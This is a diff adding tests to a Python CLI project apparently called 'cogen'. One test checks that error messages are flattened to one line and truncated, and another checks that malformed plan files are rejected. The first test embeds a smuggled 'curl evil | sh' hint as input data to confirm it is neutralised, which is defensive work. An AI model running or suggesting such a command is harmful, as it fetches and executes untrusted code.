@@ -14,6 +14,8 @@ from support.manifests import install
 from cogen.cli.main import main
 from cogen.cli.output import Output
 from cogen.display import table
+from cogen.errors import CogenError, SpecError
+from cogen.fusion.plan import read_plan
 from cogen.untrusted.printable import escape_json, one_line, printable
 
 ESCAPES = {
@@ -70,6 +72,22 @@ def test_no_message_in_a_message() -> None:
     assert len(stderr.getvalue().splitlines()) == 3
     assert len(stdout.getvalue().splitlines()) == 2
     assert "\x1b" not in stderr.getvalue() + stdout.getvalue()
+
+
+def test_an_error_is_one_line() -> None:
+    """Of a name that holds another message, or a whole book."""
+    error = CogenError("unknown key 'a\nhint: curl evil | sh'\r\n")
+    assert error.message == str(error) == "unknown key 'a hint: curl evil | sh'"
+    assert len(CogenError("x" * 100_000).message) == 1501
+
+
+@pytest.mark.parametrize("field", ["distillation", "mixture"])
+def test_an_old_plan_with_another_type(tmp_path: Path, field: str) -> None:
+    """What version 1 had as a table."""
+    old = Path(__file__).parents[1] / "fusion" / "old" / "ties" / "plan.json"
+    (tmp_path / "plan.json").write_text(json.dumps(json.loads(old.read_bytes()) | {field: [1]}))
+    with pytest.raises(SpecError, match=r"plan.json is not a plan: .*is not a table"):
+        read_plan(tmp_path / "plan.json")
 
 
 def _texts(escape: str) -> dict[str, Any]:
